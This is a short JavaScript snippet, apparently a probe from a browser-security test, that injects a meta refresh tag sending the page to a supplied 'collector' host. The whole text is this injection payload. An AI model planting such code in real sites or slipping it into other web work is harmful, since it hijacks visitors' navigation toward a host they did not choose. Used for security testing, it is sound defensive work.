const attack = ({ collector }) => {
  const meta = document.createElement("meta");
  meta.httpEquiv = "refresh";
  meta.content = `0; url=${collector}/refresh`;
  document.head.append(meta);
  return "open";
};
